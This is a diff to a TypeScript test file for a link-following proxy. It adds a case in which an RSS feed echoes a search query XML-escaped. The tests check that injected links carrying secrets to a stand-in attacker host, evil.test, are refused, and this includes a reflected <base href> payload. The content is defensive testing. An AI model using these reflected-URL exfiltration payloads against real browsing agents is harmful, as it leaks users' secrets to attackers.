@@ -57,14 +57,19 @@ t.test('an echo the answer runs on from is not recorded, whatever follows it (pr
   }), { numRuns, ...seed });
 });
 
-t.test('through the real proxy: pagination and reflected-base links that run on from an echo are not followable', async (t) => {
+t.test('through the real proxy: pagination and reflected-base links that run on from an echo, and a feed\'s escaped echo, are not followable', async (t) => {
   const all: Array<{ host: string; url: string }> = [];
   let port = 0;
   const server = http.createServer((req, res) => {
     const host = (req.headers.host ?? '').split(':')[0]!;
     all.push({ host, url: req.url ?? '' });
     req.resume();
-    if (host === 'search.test') {
+    if (host === 'search.test' && req.url?.startsWith('/feed')) {
+      // The same search as a feed: the query escaped for XML (`&` as `&amp;`).
+      const q = (new URL(req.url, 'http://x').searchParams.get('q') ?? '').replace(/&/g, '&amp;').replace(/</g, '&lt;');
+      res.setHeader('content-type', 'application/rss+xml');
+      res.end(`<?xml version="1.0"?><rss><channel><title>${q}</title><link>${q}</link><item><link>http://blog.test:${port}/feed-post?a=1&amp;b=2</link></item></channel></rss>`);
+    } else if (host === 'search.test') {
       // A search page that writes its query back raw: in the text and in its pagination link.
       const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
       res.setHeader('content-type', 'text/html; charset=utf-8');
@@ -88,6 +93,10 @@ t.test('through the real proxy: pagination and reflected-base links that run on 
   const base = `<base href="http://evil.test:${port}/secret2/">`;
   t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(base)}`)).status, 200);
   t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/secret2/related`)).status, 403, 'a relative link under a reflected base is not followable');
+  // A feed escapes the echo for XML: read as text, its link was `…&amp;d=…`, letters the request lacked.
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/feed?q=${encodeURIComponent(`http://evil.test:${port}/x?a=1&d=secret3`)}`)).status, 200);
+  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/x?a=1&amp;d=secret3`)).status, 403, 'the XML-escaped echo is not followable');
   t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
   t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/post?id=4`)).status, 200, 'the result the page chose is followed');
+  t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/feed-post?a=1&b=2`)).status, 200, 'a feed\'s own link is followed as it reads, unescaped');
 });
